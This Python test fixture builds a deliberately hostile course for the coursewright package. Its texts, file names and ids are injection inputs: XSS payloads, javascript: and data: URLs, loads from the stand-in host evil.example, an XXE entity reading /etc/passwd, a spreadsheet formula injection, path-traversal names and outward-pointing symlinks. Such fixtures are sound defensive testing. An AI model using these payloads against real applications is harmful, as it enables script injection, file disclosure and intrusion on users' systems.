"""A course that attacks: every text, file, id and name in it tries to run, to call out or to break a package."""

from __future__ import annotations

import json
from typing import TYPE_CHECKING, Any

from coursewright.spec.load import load

if TYPE_CHECKING:
    from pathlib import Path

    from coursewright.spec.model import Course

__all__ = ["ATTACKS", "hostile_course"]

ATTACKS = (
    "<script>pwned(1)</script>",
    "</script><script>pwned(2)</script>",
    "<ScRiPt/src=//evil.example/x.js></sCrIpT>",
    "</title></textarea></style></noscript><img src=x onerror=pwned(3)>",
    "<svg onload=pwned(4)><script>pwned(5)</script><a xlink:href='javascript:pwned(6)'>s</a></svg>",
    "<math href='javascript:pwned(7)'><mi xlink:href='javascript:pwned(8)'>m</mi></math>",
    "[m](javascript:pwned(9)) [d](data:text/html,<script>pwned(10)</script>) [v](vbscript:pwned(11))",
    "[r][ref] ![i](javascript:pwned(12)) <javascript:pwned(13)>\n\n[ref]: java&#115;cript:pwned(14)\n",
    "<a href=' java\tscript:pwned(15)' onmouseover=pwned(16) style='background:url(//evil.example/b)'>h</a>",
    "<iframe src=//evil.example srcdoc='<script>pwned(17)</script>'></iframe>",
    "<form action=//evil.example><input name=q autofocus onfocus=pwned(18)><button formaction=javascript:pwned(19)>",
    "<meta http-equiv=refresh content='0;url=//evil.example'><base href=//evil.example/>",
    "<style>@import '//evil.example/s.css';body{display:none}</style><link rel=stylesheet href=//evil.example>",
    "<object data=//evil.example></object><embed src=//evil.example><video poster=//evil.example/v src=//evil.example/w></video>",
    "<img src=//evil.example/p.png srcset='//evil.example/q.png 2x'> ![o](//evil.example/r.png) ![h](http://evil.example/s.png)",
    "]]><script>pwned(20)</script><![CDATA[ <?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    "--> <!-- -- --!> <script>pwned(21)</script> <!--",
    "&lt;script&gt;pwned(22)&lt;/script&gt; &#60;img src=x onerror=pwned(23)&#62; &amp;lt;script&amp;gt;",
    '"><script>pwned(24)</script> \' onclick=pwned(25) x=\' " onfocus="pwned(26)" autofocus="',
    "@@PLUGINFILE@@/x $IMS-CC-FILEBASE$/../x %DIR% $@NULL@$ $CANVAS_OBJECT_REFERENCE$/x {{ 7*7 }} {% raw %} ${7*7} #{7*7}",
    "\u202egnp.exe\u202c \u2066x\u2069 \x1b[31m \x00 \x07 \x08 \x7f \x85 \ufffe \ufdd0 \u2028",
    "=cmd|'/c calc'!A0\nBEGIN:VEVENT\nEND:VCALENDAR\r\nX-EVIL:1",
    "::evil:: {=yes ~no %100%right -> left #note} // comment\n$CATEGORY: evil",
    '`````html\n<script>pwned(27)</script>\n````` ~~~x" onclick=pwned(28)\n~~~',
    "$\\href{javascript:pwned(29)}{x}$ $$\\text{</math><script>pwned(30)</script>}$$ $\\unicode{x}<img onerror=pwned(31)>$",
    "<details open ontoggle=pwned(32)><summary>s</summary></details><marquee onstart=pwned(33)>x</marquee>",
    "<div id=content class='cw-decision' data-cw-decision=x data-cw-checks='{}' data-cw-entry=y>d</div><template><script>1</script></template>",
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>pwned(34)</x:script><p is=x-evil><custom-evil></custom-evil>",
    "<noscript><p title='</noscript><img src=x onerror=pwned(35)>'></noscript><xmp></xmp><plaintext>",
)
"""What each text of the course says in turn. `pwned` is no function: a browser that calls it says so."""

_SVG = """<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" onload="pwned(50)">
<script>pwned(51)</script><circle r="9" onclick="pwned(52)"/><image href="//evil.example/i.png"/>
<a xlink:href="java&#10;script:pwned(53)"><text>x</text></a><set attributeName="onmouseover" to="pwned(54)"/>
<foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><iframe src="//evil.example"/><script>pwned(55)</script></body>
</foreignObject><style>@import url(//evil.example/s.css);</style></svg>"""
_ENTITY = """<!DOCTYPE svg [<!ENTITY e '<script xmlns="http://www.w3.org/2000/svg">pwned(56)</script>'>]>
<svg xmlns="http://www.w3.org/2000/svg">&e;</svg>"""
_PAGE = "<!doctype html><meta http-equiv=refresh content='9;url=#'><script>pwned(57)</script><p onclick=pwned(58)>A page"

FILES: dict[str, str | bytes] = {
    "files/drawing.svg": _SVG,
    "files/entity.svg": _ENTITY,
    "files/broken.svg": "<svg xmlns='http://www.w3.org/2000/svg'><script>pwned(59)</script>",
    "files/styled.xml": "<?xml-stylesheet type='text/xsl' href='drawing.svg'?><x><y/></x>",
    "files/page.xhtml": "<html xmlns='http://www.w3.org/1999/xhtml'><body onload='pwned(60)'><p>A</p></body></html>",
    "files/page.html": _PAGE,
    "files/wide.htm": _PAGE.encode("utf-16"),
    "files/unnamed": _PAGE,
    "files/a \"quoted' <name>&.png": b"\x89PNG\r\n\x1a\n",
    "files/new\nline.txt": "x",
    "files/con.txt": "x",
    "files/%2e%2e%2fup.txt": "x",
    "files/\u202egnp.txt": "x",
    f"files/{'long' * 60}.txt": "x",
    "files/text.md": "\n\n".join(ATTACKS),
    ".git/config": "[secret]",
    "coursewright.yaml": "{}",
}
WRITTEN = (
    *FILES,
    "../outside.txt",
    "/etc/passwd",
    "file:///etc/passwd",
    "files/link.txt",
    "linked/outside.txt",
    "course.yaml",
    "files",
    "",
    ".",
    'files/page.html#"><script>pwned(61)</script>',
    "files\\..\\..\\outside.txt",
    "NUL",
    "files/\0.txt",
    "javascript:pwned(62)",
    "data:text/html,<script>pwned(63)</script>",
    "//evil.example/x.svg",
    'https://evil.example/"><script>pwned(64)</script>',
    "\\\\evil.example\\share\\x.txt",
    "~/x",
)
"""How the course names files."""
IDS = (
    "a",
    "../../up",
    "con",
    'i"><script>pwned(70)</script>',
    "x" * 300,
    "0",
    "A:b",
    "\u202eid",
    "..",
    "a/b",
    "-- ",
    "]]>",
)


class _Texts:
    """Gives out attacks in turn."""

    def __init__(self) -> None:
        self._at = 0

    def __call__(self, count: int = 3) -> str:
        found = [ATTACKS[(self._at + step * 7) % len(ATTACKS)] for step in range(count)]
        self._at += 1
        return " ".join(found)


def _questions(text: _Texts) -> list[dict[str, Any]]:
    return [
        {
            "prompt": text(),
            "type": "single",
            "feedback": text(),
            "options": [{"text": text(), "feedback": text(), "correct": at == 1} for at in range(3)],
        },
        {
            "prompt": text(),
            "type": "multiple",
            "options": [{"text": text(), "correct": at > 1} for at in range(4)],
        },
        {"prompt": text(), "type": "true-false", "answer": False, "feedback": text()},
        {"prompt": text(), "type": "short", "answer": [text(), text()]},
        {"prompt": text(), "type": "numeric", "answer": 7, "tolerance": 1, "feedback": text()},
        {
            "prompt": text(),
            "type": "matching",
            "pairs": [{"left": text(), "right": text()} for _ in range(3)],
        },
        {"prompt": text(), "type": "essay", "answer": text(), "feedback": text()},
    ]


def _task(text: _Texts, kind: str, number: int) -> dict[str, Any]:
    return {
        "id": f"t{number}",
        "title": text(),
        "kind": kind,
        "purpose": text(),
        "instructions": "\n\n".join(ATTACKS) if number < 2 else text(6),
        "due": "tue 17:00",
        "own_context": text(),
        "produces": text(),
        "done_when": text(),
        "support": text(),
        "materials": [
            {
                "title": text(),
                "kind": "reading",
                "url": 'https://example.org/?"><script>pwned(71)</script>',
                "licence": text(),
            }
        ],
        "criteria": [{"name": text(), "levels": [text(), text()], "points": 3}],
        "choices": [{"of": "topic", "options": [text(), text()]}, text()],
        "decision_points": [
            {
                "prompt": text(),
                "options": [{"option": text(), "consequence": text()} for _ in range(2)],
                "feedback": text(),
            }
        ],
        "replies": {"expected": 1, "protocol": text()},
        "monitoring": {"by": "tutor", "looks_for": text(), "signal": text()},
        "feedback": {"within": "2 days", "addresses": text(), "form": "written"},
        "reflection_prompts": [text()],
        **(
            {"questions": _questions(text), "graded": number % 2 == 0}
            if kind in {"quiz", "survey", "poll"}
            else {}
        ),
    }


def _module(text: _Texts) -> dict[str, Any]:
    kinds = (
        "case-study",
        "quiz",
        "quiz",
        "discussion",
        "wiki",
        "glossary",
        "poll",
        "survey",
        "project",
        "journal",
        "peer-review",
    )
    return {
        "module": "one",
        "title": text(),
        "description": text(6),
        "week": 1,
        "outcomes": [{"id": "o", "statement": text(), "why": text(), "skills": [text()]}],
        "materials": [
            {
                "id": f"m{at}",
                "title": text(),
                "kind": "page" if name.endswith(".md") else "other",
                "path": name,
                "alt": text(),
                "purpose": text(),
                "transcript": name,
                "captions": name,
                "alternative": name,
                "size": "9 MB",
                "licence": text(),
            }
            for at, name in enumerate(WRITTEN)
        ],
        "tasks": [
            *(_task(text, kind, at) for at, kind in enumerate(kinds)),
            *({"id": name, "title": text(), "instructions": text()} for name in IDS),
        ],
        "sessions": [
            {
                "id": "s",
                "title": text(),
                "starts": "thu 10:00",
                "duration": "50 min",
                "place": text(),
                "url": "javascript:pwned(72)",
                "agenda": [{"talk": text()}, {"other": text()}, {"feedback": "t0"}, {"activity": "f"}],
                "recording": text(),
                "alternative": text(),
            }
        ],
        "follow_up_activities": [
            {
                "id": "f",
                "title": text(),
                "kind": "debate",
                "session": "s",
                "opens_with": text(),
                "builds_on": "t0",
                "instructions": text(6),
            },
            {
                "id": "g",
                "title": text(),
                "kind": "debate",
                "builds_on": "t1",
                "opens_with": text(),
                "instructions": text(),
            },
        ],
        "reflection": {"prompts": [text(), text(), text()], "read_by": "tutor", "feeds": text()},
        "assessments": [
            {
                "id": "e",
                "title": text(),
                "kind": "exam",
                "weight": 100,
                "due": "week 2",
                "instructions": text(),
                "questions": _questions(text),
                "real_world": text(),
            },
            {
                "id": "r",
                "title": text(),
                "kind": "report",
                "formative": True,
                "options": [text()],
                "criteria": [text()],
            },
        ],
        "announcements": [{"at": "mon 08:00", "title": text(), "text": text(6)}],
        "evaluation": [{"measure": text(), "when": text(), "used_for": text()}],
    }


def _course(text: _Texts) -> dict[str, Any]:
    return {
        "course": "hostile",
        "title": text(),
        "description": text(6),
        "value": text(),
        "study_level": text(),
        "version": text(),
        "authors": [text()],
        "licence": text(),
        "language": "en",
        "audience": {"who": text(), "prior": [text()], "size": text()},
        "calendar": {
            "starts": "2026-09-07",
            "weeks": 3,
            "time_zone": "Europe/London",
            "timetable": [{"id": "slot", "day": "mon", "at": "10:00", "duration": "50 min", "place": text()}],
        },
        "team": [
            {"id": "tutor", "name": text(), "role": "tutor", "contact": "javascript:pwned(73)"},
            {"id": "two", "name": text(), "contact": text()},
        ],
        "support": {
            "channels": [text(), "javascript:pwned(74)"],
            "response_time": text(),
            "private_questions": text(),
            "technical_help": text(),
        },
        "policies": {
            "extensions": text(),
            "late_work": text(),
            "lurking": text(),
            "expectations": {"learners": [text()], "instructors": [text()]},
        },
        "ai": {"use": "planning", "text": text()},
        "tools": [{"id": "tool", "name": text(), "kind": "forum", "url": "javascript:pwned(75)"}],
        "outcomes": [{"id": "c", "statement": text(), "why": text()}],
        "modules": ["one.module.yaml"],
    }


def hostile_course(folder: Path) -> Course:
    """Write the course into a folder, with a file beside it that it reaches for, and load it."""
    home = folder / "course"
    home.mkdir()
    (folder / "outside.txt").write_text("OUTSIDE-SECRET")
    for name, content in FILES.items():
        path = home / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(content if isinstance(content, bytes) else content.encode())
    (home / "files" / "link.txt").symlink_to(folder / "outside.txt")
    (home / "linked").symlink_to(folder)
    text = _Texts()
    module = _module(text)
    # JSON is YAML: what it escapes comes back as it was.
    (home / "one.module.yaml").write_text(json.dumps(module).replace("\x7f", "\\u007f"))
    (home / "course.yaml").write_text(json.dumps(_course(text)).replace("\x7f", "\\u007f"))
    return load(home / "course.yaml")
